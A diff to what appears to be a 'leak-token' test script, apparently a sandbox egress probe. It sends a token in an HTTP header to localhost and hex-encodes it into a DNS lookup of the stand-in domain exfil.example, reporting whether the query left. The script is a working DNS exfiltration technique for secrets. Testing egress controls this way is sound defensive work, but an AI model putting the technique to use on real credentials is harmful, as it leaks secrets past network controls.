@@ -15,6 +15,15 @@ echo "leak-token: sending it in a header..."
 curl -s -S -m 5 -H "X-Debug: $TOKEN" "http://127.0.0.1:$PORT/ping" && echo " <- leaked in a header"
 echo "leak-token: resolving it as a DNS name..."
 label=$(printf '%s' "$TOKEN" | od -An -tx1 | tr -d ' \n' | cut -c1-60)
-python3 -c "import socket,sys; socket.getaddrinfo(sys.argv[1], 443)" "$label.exfil.example" 2>/dev/null \
-	&& echo "leaked as a DNS query" || echo "leak-token: DNS lookup failed"
+python3 - "$label.exfil.example" <<'PY'
+import socket, sys
+try:
+    socket.getaddrinfo(sys.argv[1], 443)
+    print(" <- leaked as a DNS query (and answered)")
+except socket.gaierror as e:
+    if e.errno == socket.EAI_FAIL:
+        print("leak-token: DNS lookup refused")
+    else:
+        print(" <- leaked as a DNS query (the query left; the answer does not matter)")
+PY
 exit 0
